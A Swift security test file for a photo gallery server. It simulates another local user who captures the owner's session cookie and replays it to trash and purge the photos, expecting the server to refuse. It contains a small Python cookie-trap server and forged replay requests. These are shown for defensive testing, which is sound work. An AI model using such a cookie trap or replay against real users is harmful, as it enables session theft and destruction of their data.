import AlbumenTestSupport
import Catalog
import Foundation
import NIOHTTP1
import Testing

@testable import Albumen
@testable import PhotoLibrary

extension PageTests {
    /// Another user of this machine runs a server, and the owner follows a link to it.
    @Suite(.enabled(if: ForeignUser.isAvailable, "\(ForeignUser.absence)")) struct ForeignUserTests {
        @Test func `a link to another user's server leaks the cookie but no photo`() async throws {
            let library = try SamplePhotos(count: 6).makeLibrary()
            try await GalleryVisit.run(library.folder) { visit in
                try await visit.waitForPictures()
                let assets = try await visit.shownIdentifiers()
                let version = try latestChange(library)

                // The page redirects to itself. The second request comes from the same site, and browsers send even
                // strict cookies to each port of a site.
                let trap = try CookieTrap()
                try await visit.browser.open(trap.address)
                let stolen = try await onOwnThread { try trap.cookies() }
                #expect(stolen.contains("albumen-\(visit.server.port)="), "the cookie was stolen: \(stolen)")

                // The thief has the cookie and also knows the token.
                let thief = try await GalleryOwner(of: visit.server, cookie: stolen)
                let body = "{\"assets\": [\(assets.map { "\"\($0)\"" }.joined(separator: ","))]}"
                let requests = [
                    thief.wire("POST", "/api/trash", body), thief.wire("POST", "/api/trash/purge", body),
                    thief.wire("GET", "/api/session"), thief.wire("GET", "/"),
                ]
                for isStopped in [false, true] {
                    for manner in ForeignUser.Manner.allCases {
                        if isStopped { visit.server.pause() }
                        let client = try ForeignUser.start(
                            sending: requests, count: 60, manner, port: visit.server.port)
                        let isSent = try await onOwnThread { client.waitForOutput { $0.contains("sent") } }
                        if isStopped { visit.server.resume() }
                        #expect(isSent)
                        #expect(try await onOwnThread { try ForeignUser.received(client) } == 0)
                    }
                }

                // The cookie alone can't change anything either, regardless of the sender.
                let origin = visit.server.origin
                let answer = try await LocalHTTP.send(
                    .POST, "/api/trash", toPort: visit.server.port,
                    headers: ["Cookie": stolen, "Origin": origin, "Content-Type": "application/json"],
                    body: Data(body.utf8))
                #expect(answer.status == 403)

                // The owner still sees all photos and can change them.
                try await visit.browser.open(origin)
                try await visit.waitForGrid()
                #expect(try await visit.shownIdentifiers() == assets)
                #expect(try latestChange(library) == version)
                try await visit.waitForEditing()
                try await visit.openViewer(at: 0)
                try await visit.browser.type(".")
                try await visit.browser.wait(
                    for: "document.querySelector('.viewer-favorite').getAttribute('aria-pressed') === 'true'")
            }
        }

        // MARK: Parts

        private func latestChange(_ temporary: TemporaryLibrary) throws -> Int64 {
            try temporary.library.catalog.read { try $0.latestChange() }
        }
    }
}

/// A server of another user, which records the cookies that a browser sends.
private final class CookieTrap: Sendable {
    let address: String
    private let program: ProgramRun

    private static let script = """
        import http.server

        class Trap(http.server.BaseHTTPRequestHandler):
            def do_GET(self):
                if self.path == "/":
                    self.send_response(302)
                    self.send_header("Location", "/again")
                    self.end_headers()
                    return
                self.send_response(200)
                self.send_header("Content-Type", "text/html")
                self.end_headers()
                self.wfile.write(b'<!DOCTYPE html><link rel="icon" href="data:,"><p>Thanks.</p>')
                print("cookies", self.headers.get("Cookie", ""), flush=True)

            def log_message(self, *arguments):
                pass

        server = http.server.HTTPServer(("127.0.0.1", 0), Trap)
        print("port", server.server_port, flush=True)
        server.serve_forever()
        """

    init() throws {
        program = try ForeignUser.start(python: Self.script)
        var port: Int?
        _ = program.waitForOutput { output in
            port = output.firstMatch(of: /port ([0-9]+)\n/).flatMap { Int($0.1) }
            return port != nil
        }
        address = "http://127.0.0.1:\(try #require(port))/"
    }

    /// Waits for the browser and returns its cookies. Blocks.
    func cookies() throws -> String {
        var cookies: String?
        _ = program.waitForOutput { output in
            cookies = output.firstMatch(of: /cookies (.*)\n/).map { String($0.1) }
            return cookies != nil
        }
        return try #require(cookies)
    }
}
